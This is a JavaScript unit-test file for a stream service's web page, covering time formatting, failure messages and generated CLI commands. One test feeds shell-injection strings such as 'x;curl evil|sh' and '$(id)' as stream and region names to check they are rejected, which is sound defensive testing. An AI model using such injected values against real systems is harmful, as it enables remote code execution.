import assert from 'node:assert/strict';
import { test } from 'node:test';
import { commandLines } from '../../main/resources/web/app/command-lines.js';
import * as format from '../../main/resources/web/app/format.js';
import { failureText, newestText } from '../../main/resources/web/app/words.js';

test('"no records yet" is shown only if it is known', () => {
  assert.equal(newestText(0, true, 10_000), 'no records yet');
  assert.equal(newestText(0, false, 10_000), 'none since node start');
  assert.equal(newestText(1_000, true, 10_000), '9 s');
  assert.equal(newestText(1_000, false, 10_000), 'at most 9 s ago');
});

const commands = (more) => Object.fromEntries(commandLines({ origin: 'http://127.0.0.1:4566', region: '', nodeRegion: 'eu-north-1', stream: 'orders', ...more }));

test('commands use the tools of the distribution', () => {
  const all = commands({ create: true });
  assert.equal(all['or with Virta'], 'virta stream put orders hello --key user-1');
  assert.ok(Object.values(all).every((command) => /^(virta|aws|export|printf) /.test(command)));
  assert.equal(commands({})['Follow in a terminal'], 'virta stream tail orders');
});

test('commands name the node and the region if they are not the defaults', () => {
  const all = commands({ origin: 'https://box:8443', region: 'eu-west-1' });
  assert.equal(all['Follow in a terminal'], 'virta stream tail orders --endpoint https://box:8443 --region eu-west-1');
  assert.match(all['Set up the AWS CLI (once per terminal)'], /AWS_REGION=eu-west-1 /);
  assert.match(commands({})['Set up the AWS CLI (once per terminal)'], /AWS_REGION=eu-north-1 /);
});

test('there are no commands for names that a shell would interpret', () => {
  for (const stream of ['x;curl evil|sh', 'x y', '$(id)', '`id`', "x'", 'x\n', 'x&y', '', 'x'.repeat(129)]) {
    assert.deepEqual(commands({ stream }), {}, stream);
    assert.deepEqual(commands({ stream, create: true }), {}, stream);
  }
  for (const region of ['x;curl evil|sh', 'EU', 'a b', '$(id)', 'x\n', 'x'.repeat(33)]) {
    assert.deepEqual(commands({ region }), {}, region);
    assert.deepEqual(commands({ nodeRegion: region }), {}, region);
  }
  assert.notDeepEqual(commands({ stream: 'a_b-C.9'.padEnd(128, 'x'), region: 'eu-1'.padEnd(32, 'x') }), {});
});

test('a moment has date, time and zone, and a row from another day has a date', () => {
  const noon = new Date(2026, 10, 29, 12, 3, 11, 45).getTime();
  assert.match(format.moment(noon), /^2026-11-29 12:03:11\.045 UTC([+-]\d\d:\d\d)?$/);
  assert.equal(format.time(noon, noon + 1), '12:03:11.045');
  assert.equal(format.time(noon, noon + 86_400_000), '2026-11-29 12:03');
  assert.equal(format.clock(noon), '12:03:11');
});

test('a late answer is reported without an unknown outcome, because the page only reads', () => {
  assert.match(failureText({ error: 'No answer in time; the outcome is unknown.', code: 'UNAVAILABLE' }), /^The node does not answer .*retrying/);
  assert.equal(failureText({ error: 'The records are damaged.', code: 'DAMAGED' }), 'The records are damaged.');
});
